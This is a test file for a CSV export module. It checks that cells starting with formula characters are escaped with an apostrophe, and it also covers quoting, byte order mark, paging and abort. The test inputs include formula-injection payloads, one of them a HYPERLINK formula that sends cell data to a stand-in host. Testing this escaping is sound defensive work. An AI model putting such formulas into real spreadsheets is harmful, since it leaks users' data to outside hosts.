import { setImmediate as turn } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createCsvStream } from '../../../../backend/platform/files/csv.ts';
import { readAllRows, ExportBrokenOff } from '../../../../backend/platform/files/csv-export.ts';
import { succeed, fail } from '../../../../backend/platform/outcome.ts';

const columns = [{ heading: 'Titre', cell: (row: string) => row }];

async function* of(...rows: string[]): AsyncGenerator<string> {
  for (const row of rows) yield await Promise.resolve(row);
}

async function textOf(rows: AsyncIterable<string>, language: 'fr' | 'en' = 'fr'): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of createCsvStream(columns, rows, language)) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

describe('an export as CSV', () => {
  it.each([
    ['=1+1', `'=1+1`],
    ['+33 1 23 45', `'+33 1 23 45`],
    ['-cmd', `'-cmd`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['\n=1', `'\n=1`],
    ['＝1+1', `'＝1+1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠a', `'＠a`],
    ['=HYPERLINK("https://x.example?"&A1;"ici")', `'=HYPERLINK("https://x.example?"&A1;"ici")`],
    ['a=1', 'a=1'],
    ['', ''],
  ])('says %j as the text %j', async (written, read) => {
    const [, row] = parse(await textOf(of(written)), { bom: true, delimiter: ';', skip_empty_lines: false });
    expect(row).toEqual([read]);
  });

  it('begins with a byte order mark and ends its lines as RFC 4180 wants', async () => {
    expect(await textOf(of('é'))).toBe('\ufeffTitre\r\né\r\n');
  });

  it.each([
    ['fr', 'a;"b"', '"a;""b"""'],
    ['fr', 'a,b', 'a,b'],
    ['en', 'a,b', '"a,b"'],
    ['en', 'a;b', 'a;b'],
    ['fr', 'a\r\nb', '"a\r\nb"'],
  ] as const)('in %s quotes %j as %j', async (language, written, quoted) => {
    expect(await textOf(of(written), language)).toBe(`\ufeffTitre\r\n${quoted}\r\n`);
  });

  it('is read as it was written, whatever it is', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), async (rows) => {
        const kept = rows.map((row) => `x${row}`);
        const read = parse(await textOf(of(...kept)), { bom: true, delimiter: ';', record_delimiter: '\r\n' });
        expect(read.slice(1)).toEqual(kept.map((row) => [Buffer.from(row).toString()]));
      }),
      { numRuns: 200 },
    );
  });

  it('asks for no page before the one before it is nearly read', async () => {
    let pages = 0;
    const page = () => {
      pages += 1;
      return { rows: Array<string>(500).fill('x'.repeat(100)), nextCursor: 'more' };
    };
    const rows = readAllRows(page(), () => Promise.resolve(succeed(page())));
    const stream = createCsvStream(columns, rows, 'fr');
    for (let turns = 0; turns < 50; turns += 1) await turn();
    const waiting = pages;
    for (let read = 0; read < 20 * 500 * 102;) {
      const chunk = stream.read() as Buffer | null;
      if (chunk === null) await turn();
      else read += chunk.length;
    }
    const later = pages;
    stream.destroy();
    for (let turns = 0; turns < 50; turns += 1) await turn();
    expect(waiting).toBeLessThan(5);
    expect(later).toBeGreaterThan(15);
    expect(later).toBeLessThan(30);
    expect(pages - later).toBeLessThan(2);
  });

  it('breaks off when more may not be read', async () => {
    const rows = readAllRows({ rows: ['a'], nextCursor: 'more' }, () =>
      Promise.resolve(fail({ code: 'user_disabled' })),
    );
    await expect(textOf(rows)).rejects.toThrow(ExportBrokenOff);
  });
});
